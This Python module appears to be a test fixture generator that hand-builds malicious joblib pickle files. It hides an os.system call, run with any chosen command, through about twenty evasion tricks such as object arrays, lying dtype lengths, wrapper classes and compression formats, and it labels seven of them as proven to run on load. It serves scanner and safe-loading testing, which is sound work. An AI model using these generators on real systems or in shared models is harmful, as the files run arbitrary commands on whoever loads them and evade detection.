"""joblib files that hide instructions where array bytes are expected, or the other way round.

An attack is a function of the payload's shell command; it gives the file.
"""

import bz2
import gzip
import io
import lzma
import struct
import zlib
from collections.abc import Callable

import joblib
import numpy as np

Attack = Callable[[str], bytes]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def payload(command: str) -> bytes:
    return b"0" + named("os", "system") + b"(" + text(command) + b"tR"


def simple_type(
    code: str = "u1", state: bytes = b"(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"
) -> bytes:
    return named("numpy", "dtype") + text(code) + b"K\x00K\x01\x87R" + state + b"b"


def note(count: bytes, dtype: bytes, subclass: bytes = named("numpy", "ndarray")) -> bytes:
    items = {
        "subclass": subclass,
        "shape": b"(" + count + b"t",
        "order": text("C"),
        "dtype": dtype,
        "allow_mmap": b"\x89",
    }
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


WRAPPER = named("joblib.numpy_pickle", "NumpyArrayWrapper")


def wrapped(count: bytes, dtype: bytes) -> bytes:
    return WRAPPER + b")\x81" + note(count, dtype) + b"b"


def proto(body: bytes, number: int = 2) -> bytes:
    return b"\x80" + bytes([number]) + body + b"."


def counted(size: int) -> bytes:
    return b"J" + struct.pack("<i", size)


class _Payload:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def _in_an_object_array(command: str) -> bytes:
    stream = io.BytesIO()
    joblib.dump(np.array([1, _Payload(command)], dtype=object), stream)
    return stream.getvalue()


def _in_an_array_in_an_array(command: str) -> bytes:
    inner = np.empty(1, dtype=object)
    inner[0] = np.array([_Payload(command), None], dtype=object)
    stream = io.BytesIO()
    joblib.dump({"a": inner}, stream)
    return stream.getvalue()


def _behind_an_array(command: str) -> bytes:
    return proto(wrapped(b"K\x05", simple_type()) + b"....." + payload(command))


def _in_the_frame_of_an_array(command: str) -> bytes:
    # the array's bytes come after the frame; what follows the note inside it still runs
    hidden = payload(command)
    inside = wrapped(counted(len(hidden)), simple_type()) + hidden + b"."
    array = b"\x00" * len(hidden)
    return b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + array


def _type_that_lies_about_its_length(command: str) -> bytes:
    # numpy believes the type's code, 1 byte; a scan that believed the state would skip 64
    state = b"(K\x03U\x01|NNNK\x40K\x01K\x00t"
    return proto(wrapped(b"K\x01", simple_type("u1", state)) + b"." + payload(command) + b" " * 64)


def _type_that_hides_its_objects(command: str) -> bytes:
    state = b"(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00t"
    return proto(wrapped(b"K\x01", simple_type("O8", state)) + proto(payload(command)[1:]))


def _wrapper_by_another_hand(command: str) -> bytes:
    # pandas makes an instance of the class it is handed: a wrapper that was never seen being made
    made = (
        named("pandas.core.indexes.base", "_new_Index")
        + WRAPPER
        + b"}"
        + text("dtype")
        + b"Ns\x86R"
    )
    return proto(made + note(b"K\x05", simple_type()) + b"b" + b"N...." + payload(command))


def _wrapper_by_a_state(command: str) -> bytes:
    made = named("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    turned = b"N}" + text("__class__") + WRAPPER + b"s\x86b"
    return proto(made + turned + payload(command))


def _wrapper_by_reduce(command: str) -> bytes:
    made = (
        WRAPPER
        + b"("
        + named("numpy", "ndarray")
        + b"K\x01\x85"
        + text("C")
        + simple_type()
        + b"tR"
    )
    return proto(made + b"}b" + b"." + payload(command))


def _wrapper_with_an_extra_key(command: str) -> bytes:
    body = note(b"K\x05", simple_type())
    return proto(
        WRAPPER + b")\x81" + body + text("read") + b"Ns" + b"b" + b"....." + payload(command)
    )


def _array_longer_than_the_file(command: str) -> bytes:
    return proto(
        wrapped(b"\x8a\x08" + struct.pack("<q", 1 << 62), simple_type()) + payload(command)
    )


def _array_of_negative_length(command: str) -> bytes:
    return proto(wrapped(counted(-8), simple_type()) + payload(command))


def _in_a_format_of_old(command: str) -> bytes:
    return b"ZF0x1f                " + zlib.compress(proto(payload(command)[1:]))


def _compressed(squeeze: Callable[[bytes], bytes]) -> Attack:
    return lambda command: squeeze(proto(payload(command)[1:]))


def _in_two_members(command: str) -> bytes:
    stream = proto(payload(command)[1:])
    return gzip.compress(stream[:9], mtime=0) + gzip.compress(stream[9:], mtime=0)


def _then_broken(command: str) -> bytes:
    return gzip.compress(proto(payload(command)[1:]), mtime=0)[:-8] + b"garbage!garbage!"


FILES: dict[str, Attack] = {
    "in an object array": _in_an_object_array,
    "in an array in an array": _in_an_array_in_an_array,
    "behind an array": _behind_an_array,
    "in the frame of an array": _in_the_frame_of_an_array,
    "type that lies about its length": _type_that_lies_about_its_length,
    "type that hides its objects": _type_that_hides_its_objects,
    "wrapper by another hand": _wrapper_by_another_hand,
    "wrapper by a state": _wrapper_by_a_state,
    "wrapper by REDUCE": _wrapper_by_reduce,
    "wrapper with an extra key": _wrapper_with_an_extra_key,
    "array longer than the file": _array_longer_than_the_file,
    "array of negative length": _array_of_negative_length,
    "format of old": _in_a_format_of_old,
    "zlib": _compressed(zlib.compress),
    "gzip": _compressed(gzip.compress),
    "bz2": _compressed(bz2.compress),
    "xz": _compressed(lzma.compress),
    "lzma": _compressed(lambda raw: lzma.compress(raw, lzma.FORMAT_ALONE)),
    "gzip in two members": _in_two_members,
    "gzip that breaks off": _then_broken,
}

LIVE: dict[str, Attack] = {
    name: FILES[name]
    for name in (
        "in an object array", "behind an array", "in the frame of an array",
        "type that lies about its length", "wrapper by another hand", "zlib", "lzma",
    )
}  # fmt: skip
"""Those that are proved to run where joblib loads them, so that refusing them means something."""
